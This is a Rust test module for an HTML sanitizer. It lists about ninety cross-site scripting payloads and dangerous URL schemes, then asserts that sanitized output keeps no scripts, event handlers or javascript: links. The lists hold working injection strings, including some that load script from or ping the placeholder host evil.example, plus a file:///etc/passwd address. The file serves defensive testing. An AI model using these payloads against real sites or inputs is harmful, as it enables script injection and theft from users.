//! What people write who want something to run in the browsers of others.

use dom_query::Document;

/// Ways to smuggle a script past a filter, after the classes of OWASP's filter evasion list.
pub const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script src=https://evil.example/x.js?<b>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=javascript:alert(1)>",
    "<img src=JaVaScRiPt:alert(1)>",
    "<img src=javascript:alert(&quot;x&quot;)>",
    "<img src=`javascript:alert(1)`>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav\nascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
    "<a href=\"javascript\u{0}:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a onmouseover=\"alert(1)\">x</a>",
    "<a href=# onclick=alert(1)>x</a>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"&#0000106alert(1)\">",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img/src=\"x\"/onerror=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<body onload=alert(1)>",
    "<BODY ONLOAD =alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe><a title=\"</iframe><img src onerror=alert(1)>\">",
    "<embed src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<object data=\"javascript:alert(1)\"></object>",
    "<applet code=x></applet>",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>li {list-style-image: url(\"javascript:alert(1)\");}</style><ul><li>x",
    "<div style=\"background-image: url(javascript:alert(1))\">x</div>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<p style=\"position:fixed;inset:0\">x</p>",
    "<input type=\"image\" src=\"javascript:alert(1)\">",
    "<input type=checkbox autofocus onfocus=alert(1)>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<video src=x onerror=alert(1)></video>",
    "<video poster=\"javascript:alert(1)\"></video>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=\"javascript:alert(1)\"></audio>",
    "<img srcset=\"javascript:alert(1) 2x, x.png\">",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=\"javascript:alert(1)\">",
    "<table background=\"javascript:alert(1)\"><td background=\"javascript:alert(1)\">x",
    "<template><script>alert(1)</script></template>",
    "<select><template><script>alert(1)</script></template></select>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<a href=\"https://ok.example\" target=_blank rel=opener ping=\"https://evil.example\">x</a>",
    "<h2 id=\"x\" onclick=alert(1)>x</h2>",
    "<h2>\"><script>alert(1)</script></h2>",
    "<h2 id='\"><script>alert(1)</script>'>x</h2>",
    "<p a\"><script>=1>x</p>",
    "<img alt=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\" src=x>",
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "```\"><script>alert(1)</script>\nx\n```",
    "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
    "## x {#\"onclick=alert(1)}",
];

/// Addresses that run, or lead where no reader of a publication is to be led.
pub const ADDRESSES: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " \u{1}javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "javascript:alert(1)//https://ok.example",
    "javascript://ok.example/%0Aalert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript\u{ff1a}alert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "jar:https://ok.example!/x.html",
    "blob:https://ok.example/1",
    "file:///etc/passwd",
    "filesystem:https://ok.example/x",
    "\\\\evil.example\\x",
    "//evil.example/x",
];

/// Nothing in the HTML runs, as far as its tree shows.
#[track_caller]
pub fn assert_inert(html: &str, attack: &str) {
    let document = Document::fragment(html);
    for node in document.root().descendants() {
        let Some(name) = node.node_name() else { continue };
        assert!(
            ![
                "script", "style", "iframe", "svg", "math", "object", "embed", "base", "meta", "link", "form",
                "template"
            ]
            .contains(&&*name),
            "{name} of {attack} in {html}"
        );
        for attribute in node.attrs() {
            let (attribute, value) = (&*attribute.name.local, &*attribute.value);
            assert!(
                !attribute.starts_with("on") && attribute != "style",
                "{attribute} of {attack} in {html}"
            );
            assert!(
                !["srcdoc", "formaction", "action", "ping", "target", "background"].contains(&attribute),
                "{html}"
            );
            if ["href", "src", "poster", "srcset"].contains(&attribute) {
                let bare = value
                    .chars()
                    .filter(|c| !c.is_whitespace() && !c.is_control())
                    .collect::<String>();
                let bare = bare.to_ascii_lowercase();
                for scheme in ["javascript:", "vbscript:", "data:"] {
                    assert!(!bare.starts_with(scheme), "{attribute}={value} of {attack} in {html}");
                }
            }
        }
    }
}
